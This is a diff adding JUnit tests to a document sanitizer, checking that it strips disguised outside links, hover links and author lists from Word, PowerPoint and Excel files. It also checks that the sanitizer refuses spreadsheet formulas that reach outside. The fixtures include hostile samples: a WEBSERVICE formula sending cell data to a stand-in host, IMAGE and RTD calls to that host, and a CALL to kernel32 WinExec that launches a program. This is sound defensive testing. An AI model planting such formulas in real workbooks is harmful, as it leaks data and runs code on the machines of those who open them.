@@ -164,7 +164,103 @@ class ActiveContentTest {
     String everything = all(m);
     assertFalse(everything.contains(EVIL) || everything.contains("SQMK") || everything.contains("r:link"), everything);
     assertTrue(m.get("ppt/slides/slide1.xml").contains(ActiveFixtures.PPTX_TEXT));
-    assertRemoved(c.report(), "linked pictures", "list of comment authors");
+    assertRemoved(c.report(), "linked pictures", "list of people who edited or commented");
+  }
+
+  /**
+   * Found by review: an outside address kept because its relationship says "hyperlink", though a
+   * picture (DrawingML's {@code r:link}, VML's {@code o:relid}) or a hover link uses it, and names in
+   * parts found only by their relationship's type. Each goes, the relationship with its uses; the
+   * web link clicked from text stays and is listed.
+   */
+  @Test
+  void outsideAddressesStayOnlyAsClickedLinksAndNamesGoWhereverTheyAre(@TempDir Path dir) throws Exception {
+    assumeUnzip();
+    byte[] docx = ActiveFixtures.docxWithDisguisedRelationships();
+    Result word = clean("letter.docx", docx, dir);
+    Map<String, String> m = Readers.unzip(word.path(), dir);
+    String everything = all(m);
+    assertFalse(everything.contains(EVIL) || everything.contains("SQMK"), everything);
+    assertFalse(m.get("word/document.xml").contains("r:link") || m.get("word/header1.xml").contains("o:relid"),
+        m.get("word/document.xml") + m.get("word/header1.xml"));
+    assertTrue(m.get("word/document.xml").contains(ActiveFixtures.DOCX_TEXT) && m.get("word/document.xml").contains("r:id=\"rIdWeb\"")
+        && m.get("word/document.xml").contains("r:embed=\"rIdPic\""), "text, the clicked link and the embedded picture stay");
+    assertFalse(m.containsKey("word/persons.xml") || m.containsKey("data/item1.xml"), m.keySet().toString());
+    assertRemoved(word.report(), "outside addresses that load when the document is opened", "list of people", "custom XML");
+    assertListedLink(word.report());
+    assertFalse(word.report().kept().toString().contains(EVIL), "no link is said to be kept that is gone: " + word.report().kept());
+    assertCheckRefuses(Formats.DOCX, docx, "outside addresses that load");
+
+    byte[] pptx = ActiveFixtures.pptxWithHoverAndDisguisedLink();
+    Result slides = clean("slides.pptx", pptx, dir);
+    Map<String, String> s = Readers.unzip(slides.path(), dir);
+    assertFalse(all(s).contains(EVIL), all(s));
+    String slide = s.get("ppt/slides/slide1.xml");
+    assertFalse(slide.contains("hlinkHover") || slide.contains("hlinkMouseOver") || slide.contains("r:link"), slide);
+    assertTrue(slide.contains(ActiveFixtures.PPTX_TEXT) && slide.contains("<a:hlinkClick r:id=\"rIdWeb\""), slide);
+    assertRemoved(slides.report(), "pointer passes over a shape", "outside addresses that load");
+    assertListedLink(slides.report());
+    assertCheckRefuses("application/vnd.openxmlformats-officedocument.presentationml.presentation", pptx, "pointer passes over");
+
+    byte[] xlsx = ActiveFixtures.xlsxWithCommentsElsewhere();
+    Result book = clean("wages.xlsx", xlsx, dir);
+    Map<String, String> b = Readers.unzip(book.path(), dir);
+    assertFalse(all(b).contains("SQMK") || b.containsKey("xl/comments/comment1.xml"), b.keySet().toString());
+    assertTrue(b.get("xl/worksheets/sheet1.xml").contains(ActiveFixtures.XLSX_TEXT));
+    assertRemoved(book.report(), "comments (with author names");
+    assertCheckRefuses(Formats.XLSX, xlsx, "comments");
+  }
+
+  /**
+   * Found by review: spreadsheet formulas that fetch from the web (WEBSERVICE, IMAGE) or call a
+   * program or server (RTD, CALL, REGISTER) when the workbook is recalculated, which Excel does on
+   * opening when {@code fullCalcOnLoad} asks: refused (the formula is the content), with the way
+   * out to save a copy with values only; in a cell, a defined name or an OpenDocument cell. A
+   * formula that merely has such a word in a longer name is not.
+   */
+  @Test
+  void formulasThatFetchOrCallOutsideAreRefused() throws Exception {
+    for (String[] c : new String[][] {
+        {"<f>_xlfn.WEBSERVICE(\"http://" + EVIL + "/w?a=\"&amp;A1)</f><v>1</v>", ""},
+        {"<f t=\"shared\" ref=\"B1:B3\" si=\"0\">_xlfn.IMAGE(\"https://" + EVIL + "/p.png\")</f><v>0</v>", ""},
+        {"<f>RTD(\"x.server\",\"" + EVIL + "\",\"t\")</f><v>0</v>", ""},
+        {"<f>SUM(1,2)</f><v>3</v>", "<definedNames><definedName name=\"Beacon\">CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)</definedName></definedNames>"}}) {
+      RefusedFileException e = assertThrows(RefusedFileException.class, () -> sanitizer.clean(xlsx(c[0], c[1]), "wages.xlsx", 1), c[0]);
+      assertEquals(RefusedFileException.Kind.UNSUPPORTED_VARIANT, e.kind(), e.getMessage());
+      assertTrue(e.reason().contains("WEBSERVICE, IMAGE, RTD, CALL, REGISTER"), e.reason());
+      assertEquals(WayOut.SAVE_AS_SPREADSHEET, e.wayOut());
+    }
+    Sanitizer.Cleaned plain = sanitizer.clean(xlsx("<f>MYIMAGE(1)+SUM(A2)</f><v>3</v>",
+        "<definedNames><definedName name=\"Total\">Wages!$A$1</definedName></definedNames>"), "wages.xlsx", 1);
+    assertEquals(Formats.XLSX, plain.report().detectedType());
+    String ns = " xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
+        + " xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\" xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\"";
+    byte[] ods = Corpus.zip(true, new String[][] {
+        {"mimetype", "application/vnd.oasis.opendocument.spreadsheet"},
+        {"content.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<office:document-content" + ns + " office:version=\"1.3\">"
+            + "<office:body><office:spreadsheet><table:table table:name=\"Wages\"><table:table-row><table:table-cell"
+            + " table:formula=\"of:=WEBSERVICE(&quot;http://" + EVIL + "/o&quot;)\" office:value-type=\"string\"><text:p>1</text:p>"
+            + "</table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"},
+        {"META-INF/manifest.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<manifest:manifest"
+            + " xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.3\">"
+            + "<manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.spreadsheet\"/>"
+            + "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/></manifest:manifest>"}});
+    RefusedFileException e = assertThrows(RefusedFileException.class, () -> sanitizer.clean(ods, "wages.ods", 1));
+    assertEquals(RefusedFileException.Kind.UNSUPPORTED_VARIANT, e.kind(), e.getMessage());
+  }
+
+  /** A one-sheet workbook whose first cell holds {@code cell} (a formula and its value), with {@code names} in the workbook. */
+  private static byte[] xlsx(String cell, String names) {
+    String s = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
+    String od = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+    return Corpus.zip(false, new String[][] {
+        {"[Content_Types].xml", ActiveFixtures.types("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")},
+        {"_rels/.rels", ActiveFixtures.rels(ActiveFixtures.rel("rId1", od + "/officeDocument", "xl/workbook.xml", false))},
+        {"xl/workbook.xml", ActiveFixtures.XML + "<workbook xmlns=\"" + s + "\" xmlns:r=\"" + od + "\"><sheets><sheet name=\"Wages\""
+            + " sheetId=\"1\" r:id=\"rId1\"/></sheets>" + names + "<calcPr fullCalcOnLoad=\"1\"/></workbook>"},
+        {"xl/_rels/workbook.xml.rels", ActiveFixtures.rels(ActiveFixtures.rel("rId1", od + "/worksheet", "worksheets/sheet1.xml", false))},
+        {"xl/worksheets/sheet1.xml", ActiveFixtures.XML + "<worksheet xmlns=\"" + s + "\"><sheetData><row r=\"1\"><c r=\"A1\">" + cell
+            + "</c></row></sheetData></worksheet>"}});
   }
 
   @Test
